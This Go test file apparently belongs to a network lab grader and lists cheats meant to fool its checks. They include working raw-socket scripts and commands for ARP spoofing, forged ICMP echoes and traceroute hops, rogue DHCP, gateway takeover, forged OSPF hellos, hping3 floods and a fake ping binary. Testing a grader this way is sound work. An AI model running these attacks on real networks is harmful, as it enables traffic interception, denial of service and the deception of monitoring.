package rack_test

// capture is the start of programs that see and send frames as they like.
const capture = `
def mac(i): return open('/sys/class/net/'+i+'/address').read().strip()
def raw(i):
    s=socket.socket(socket.AF_PACKET,socket.SOCK_RAW,socket.htons(3)); s.bind((i,0)); return s
def m(x): return bytes.fromhex(x.replace(':',''))
def a(x): return socket.inet_aton(x)
def csum(b):
    if len(b)%2: b+=b'\0'
    n=sum(struct.unpack('!%dH'%(len(b)//2),b))
    while n>>16: n=(n&0xffff)+(n>>16)
    return struct.pack('!H',~n&0xffff)
def ip(src,dst,proto,data,ttl=64):
    h=struct.pack('!BBHHHBBH4s4s',0x45,0,20+len(data),7,0,ttl,proto,0,a(src),a(dst))
    return h[:10]+csum(h)+h[12:]+data
def icmp(typ,code,rest):
    d=bytes([typ,code,0,0])+rest
    return d[:2]+csum(d)+d[4:]
`

// echoes answers every echo request to srv in its place, as it goes by.
const echoes = capture + `
s=raw('eth0')
while True:
    f,at=s.recvfrom(9000)
    if at[2]==4 or f[12:14]!=b'\x08\x00' or f[23]!=1 or f[34]!=8 or f[30:34]!=a('10.0.2.80'): continue
    n=struct.unpack('!H',f[16:18])[0]
    s.send(f[6:12]+f[0:6]+b'\x08\x00'+ip('10.0.2.80',socket.inet_ntoa(f[26:30]),1,icmp(0,0,f[38:14+n]),63))
`

// services is all that srv is to serve, wherever it runs.
const services = `mkdir -p /run/www; echo 'answer = 42' >/run/www/index.html
` + "dnsmasq --no-resolv --no-hosts --pid-file=/run/dns.pid --host-record=www.lab.example,10.0.2.80\n"

const stopServices = `kill $(cat /run/dns.pid); true`

func fakeServices() string {
	return services + behind(`while :; do printf 'SSH-2.0-lab\r\n' | nc -l -p 22 -q 1; done`) +
		behind(`cd /run/www; exec python3 -m http.server 80`) + "sleep 1\n"
}

var atSRV = []string{"probe-ping", "connect", "fetch", "resolve"}

func cheatsOnWire() []cheat {
	one := func(node, script string) map[string]string { return map[string]string{node: script} }
	return []cheat{
		{name: "fake-ping", do: one("pc", `mv /usr/bin/ping /usr/bin/ping.real; printf '#!/bin/sh\necho 1 packets transmitted, 1 received\n' >/usr/bin/ping; chmod +x /usr/bin/ping`),
			undo: one("pc", "mv /usr/bin/ping.real /usr/bin/ping"), checks: []string{"node-ping"}},
		{name: "ping-of-another-path", do: one("pc", `mkdir /usr/local/sbin/x 2>/dev/null; for d in /usr/local/sbin /usr/local/bin; do printf '#!/bin/sh\nexit 0\n' >$d/ping; chmod +x $d/ping; done; echo PATH=/usr/local/sbin >/etc/environment`),
			undo: one("pc", "rm -f /usr/local/*bin/ping /etc/environment"), checks: []string{"node-ping"}},
		{name: "local-address", do: one("pc", "ip addr add 10.0.2.80/32 dev lo"), undo: one("pc", "ip addr del 10.0.2.80/32 dev lo"),
			checks: []string{"node-ping", "frames"}},
		{name: "translated-at-the-asker", do: one("pc", "iptables -t nat -A OUTPUT -d 10.0.2.80 -j DNAT --to 10.0.1.66"), undo: one("pc", "iptables -t nat -F"),
			checks: []string{"node-ping", "frames"}},
		{name: "answered-by-oneself", do: one("pc", python(capture+`
s=raw('eth0')
while True:
    f,at=s.recvfrom(9000)
    if f[12:14]==b'\x08\x00' and f[23]==1 and f[34]==8:
        n=struct.unpack('!H',f[16:18])[0]
        s.send(f[6:12]+f[0:6]+b'\x08\x00'+ip('10.0.2.80','10.0.1.10',1,icmp(0,0,f[38:14+n])))
`)), checks: []string{"node-ping"}},
		{name: "router-has-the-address", do: one("r1", "ip addr add 10.0.2.80/32 dev lo"), undo: one("r1", "ip addr del 10.0.2.80/32 dev lo"),
			checks: []string{"node-ping", "probe-ping", "trace"}},
		{name: "router-serves", do: one("r1", "ip addr add 10.0.2.80/32 dev lo\n"+fakeServices()), undo: one("r1", "ip addr del 10.0.2.80/32 dev lo\n"+stopServices), checks: atSRV},
		{name: "router-translates", do: one("r1", "iptables -t nat -A PREROUTING -i eth0 -d 10.0.2.80 -j REDIRECT\n"+fakeServices()), undo: one("r1", "iptables -t nat -F\n"+stopServices), checks: atSRV},
		{name: "another-answer-by-proxy", do: map[string]string{"evil": fakeServices(), "r1": "ip addr add 10.0.2.80/32 dev lo\n" +
			behind("exec socat TCP-LISTEN:80,fork,reuseaddr TCP:10.0.1.66:80") + behind("exec socat TCP-LISTEN:22,fork,reuseaddr TCP:10.0.1.66:22") + behind("exec socat UDP-LISTEN:53,fork UDP:10.0.1.66:53")},
			undo: map[string]string{"r1": "ip addr del 10.0.2.80/32 dev lo", "evil": stopServices}, checks: atSRV},
		{name: "translated-to-a-neighbour", do: map[string]string{"evil": "ip addr add 10.0.2.80/32 dev lo\n" + fakeServices(),
			"r1": "echo 1 >/proc/sys/net/ipv4/conf/eth0/forwarding; ip route add 10.0.2.80/32 via 10.0.1.66 dev eth0; echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects"},
			undo: map[string]string{"r1": "ip route del 10.0.2.80/32 via 10.0.1.66; echo 0 >/proc/sys/net/ipv4/conf/eth0/forwarding", "evil": "ip addr del 10.0.2.80/32 dev lo\n" + stopServices}, checks: atSRV},
		{name: "gateway-taken-over", do: map[string]string{"r1": "ip addr del 10.0.1.1/24 dev eth0", "evil": "ip addr add 10.0.1.1/24 dev eth0; ip addr add 10.0.2.80/32 dev lo\n" + fakeServices()},
			undo: map[string]string{"r1": "ip addr add 10.0.1.1/24 dev eth0", "evil": "ip addr del 10.0.1.1/24 dev eth0; ip addr del 10.0.2.80/32 dev lo\n" + stopServices}, checks: append([]string{"node-ping"}, atSRV...)},
		{name: "server's-Ethernet-address", do: one("r1", "ip addr add 10.0.2.80/32 dev lo; ip link set eth0 down; ip link set eth0 address 02:11:22:33:44:55; ip link set eth0 up"),
			again: []string{"r1"}, checks: []string{"probe-ping", "node-ping"}},
		{name: "forged-echoes", do: one("r1", python(echoes)), checks: []string{"node-ping", "probe-ping"}},
		{name: "forged-echoes-in-the-far-network", do: map[string]string{"r1": python(echoes), "evil": python(capture + `
s=raw('eth1')
while True:
    f,at=s.recvfrom(9000)
    if f[12:14]==b'\x08\x00' and f[23]==1 and f[34]==8: s.send(f)
`)}, checks: []string{"node-ping", "probe-ping"}},
		{name: "replayed-echo", do: map[string]string{"pc": "ping -c1 -W1 10.0.1.66 >/dev/null\n" + python(capture+`
s=raw('eth0'); t=raw('eth0')
def again(f):
    for i in range(400):
        t.send(m(mac('eth0'))+f[6:12]+b'\x08\x00'+ip('10.0.2.80','10.0.1.10',1,f[34:])); time.sleep(.01)
os.system('ping -c1 -W1 10.0.1.66 >/dev/null &')
while True:
    f,at=s.recvfrom(9000)
    if f[12:14]==b'\x08\x00' and f[23]==1 and f[34]==0: again(f); break
`)}, checks: []string{"node-ping"}},
		{name: "everybody's-responder", do: one("evil", "ip route replace local 10.0.1.0/24 dev lo"), undo: one("evil", "ip route del local 10.0.1.0/24 dev lo"),
			checks: []string{"answers", "probe-ping"}},
		{name: "proxy-ARP", do: one("r1", "echo 1 >/proc/sys/net/ipv4/conf/eth0/proxy_arp; echo 1 >/proc/sys/net/ipv4/conf/eth0/forwarding; ip route add 10.0.1.50/32 dev eth1"),
			undo: one("r1", "echo 0 >/proc/sys/net/ipv4/conf/eth0/proxy_arp; echo 0 >/proc/sys/net/ipv4/conf/eth0/forwarding; ip route del 10.0.1.50/32 dev eth1"), checks: []string{"answers"}},
		{name: "answer-from-another-address", do: one("evil", "ip addr add 10.0.1.50/24 dev eth0"), undo: one("evil", "ip addr del 10.0.1.50/24 dev eth0"), checks: []string{"answers"}},
		{name: "answer-with-a-forged-address", do: map[string]string{"pc": "cat /sys/class/net/eth0/address >/dev/null", "evil": python(capture + `
s=raw('eth0')
def say(src):
    p=a('10.0.1.10'); s.send(m('ffffffffffff')+src+b'\x08\x06'+bytes.fromhex('0001080006040002')+src+a('10.0.1.50')+m('ffffffffffff')+a('10.0.1.50'))
os.system('ping -c1 -W1 10.0.1.10 >/dev/null')
pc=m(os.popen("ip neigh show 10.0.1.10 | sed 's/.*lladdr //;s/ .*//'").read().strip())
while True: say(pc); time.sleep(.02)
`)}, checks: []string{"answers"}},
		{name: "answers-for-newcomers-alone", do: one("evil", python(capture+`
s=raw('eth0'); known={m(l.split()[3]) for l in open('/proc/net/arp').readlines()[1:]}
while True:
    f,at=s.recvfrom(9000)
    if at[2]!=4 and f[12:14]==b'\x08\x06' and f[20:22]==b'\0\1' and f[6:12] not in known and f[38:42]==a('10.0.1.50'):
        s.send(f[6:12]+m(mac('eth0'))+b'\x08\x06'+bytes.fromhex('0001080006040002')+m(mac('eth0'))+a('10.0.1.50')+f[22:32])
`)), checks: []string{"answers"}},
		{name: "forged-hops", do: one("r1", python(capture+`
s=raw('eth0')
while True:
    f,at=s.recvfrom(9000)
    if at[2]==4 or f[12:14]!=b'\x08\x00' or f[23]!=17 or f[30:34]!=a('10.0.2.80'): continue
    if f[22]==1: src,e='10.0.1.1',icmp(11,0,bytes(4)+f[14:])
    else: src,e='10.0.2.80',icmp(3,3,bytes(4)+f[14:])
    s.send(f[6:12]+f[0:6]+b'\x08\x00'+ip(src,socket.inet_ntoa(f[26:30]),1,e))
`)), checks: []string{"trace"}},
		{name: "lifted-TTL", do: one("r1", "ip addr add 10.0.2.80/32 dev lo\n"+python(capture+`
s=raw('eth0')
while True:
    f,at=s.recvfrom(9000)
    if at[2]!=4 and f[12:14]==b'\x08\x00' and f[23]==17 and f[22]==1 and f[30:34]==a('10.0.2.80'):
        s.send(f[6:12]+f[0:6]+b'\x08\x00'+ip('10.0.1.1',socket.inet_ntoa(f[26:30]),1,icmp(11,0,bytes(4)+f[14:])))
`)+"iptables -A INPUT -p udp -m ttl --ttl-eq 1 -j DROP\n"), undo: one("r1", "ip addr del 10.0.2.80/32 dev lo; iptables -F"), checks: []string{"trace"}},
		{name: "another's-DHCP", do: one("evil", "dnsmasq --port=0 --pid-file=/run/dhcp.pid --interface=eth0 --dhcp-range=10.0.1.100,10.0.1.110,1h --dhcp-option=3,10.0.1.1 --dhcp-option=54,10.0.1.1"),
			undo: one("evil", "kill $(cat /run/dhcp.pid)"), checks: []string{"dhcp"}},
		{name: "forged-DHCP-of-the-router's", do: one("evil", "ip addr add 10.0.1.1/24 dev eth0; dnsmasq --port=0 --pid-file=/run/dhcp.pid --interface=eth0 --dhcp-range=10.0.1.100,10.0.1.110,1h"),
			undo: one("evil", "kill $(cat /run/dhcp.pid); ip addr del 10.0.1.1/24 dev eth0"), checks: []string{"dhcp"}},
		{name: "flood-of-frames", do: one("r1", behind("exec hping3 -q --flood --icmp -I eth1 -d 64 -e word-0123456789abcdef 10.0.2.80")), checks: []string{"frames"}},
		{name: "frames-by-another's-port", do: map[string]string{"r1": "ping -c1 -W1 10.0.2.66 >/dev/null", "evil": python(capture + `
s=raw('eth1')
os.system('ping -c1 -W1 10.0.2.1 >/dev/null')
r1=m(os.popen("ip neigh show 10.0.2.1 | sed 's/.*lladdr //;s/ .*//'").read().strip())
hello=bytes.fromhex('0201002c0aff0001000000000000')+bytes(30)
while True:
    s.send(m('01005e000005')+r1+b'\x08\x00'+ip('10.0.2.1','224.0.0.5',89,hello,1)); time.sleep(.02)
`)}, checks: []string{"hello"}},
		{name: "too-many-frames-to-look-at", do: map[string]string{"pc": behind("while :; do echo x | nc -u -w0 10.0.1.66 9999; sleep 0.05; done"), "evil": behind("exec hping3 -q --flood --udp -d 1200 -p 7 10.0.1.1"),
			"r1": "true"}, checks: []string{"silent"}},
	}
}
